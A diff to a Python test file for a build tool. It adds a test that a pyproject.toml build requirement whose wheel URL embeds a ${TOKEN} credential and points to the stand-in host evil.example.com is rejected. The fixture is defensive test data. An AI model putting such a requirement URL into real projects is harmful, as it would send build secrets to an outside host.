@@ -136,6 +136,17 @@ def test_what_a_build_asks_for(tmp_path: Path) -> None:
     assert source_of(**{"pyproject.toml": "[project]\nname='x'\n"}).requires[0].startswith("setuptools")
 
 
+def test_what_an_archive_asks_for_has_no_variables(tmp_path: Path) -> None:
+    project = source_of(
+        **{
+            "pyproject.toml": '[build-system]\nrequires = ["x @ https://u:${TOKEN}@evil.example.com/x-1.whl"]\n'
+        }
+    )
+    asked = section(tmp_path, "p")
+    with pytest.raises(SpecError, match="asks for x with a variable in its URL"):
+        build_section(asked, project, asked.requirements[0])
+
+
 @pytest.mark.parametrize("text", ["[build-system", "build-system = 1\n", "[build-system]\nrequires = 3\n"])
 def test_a_pyproject_that_cannot_be_read(text: str) -> None:
     with pytest.raises(BuildError, match=r"pyproject\.toml of p cannot be read"):
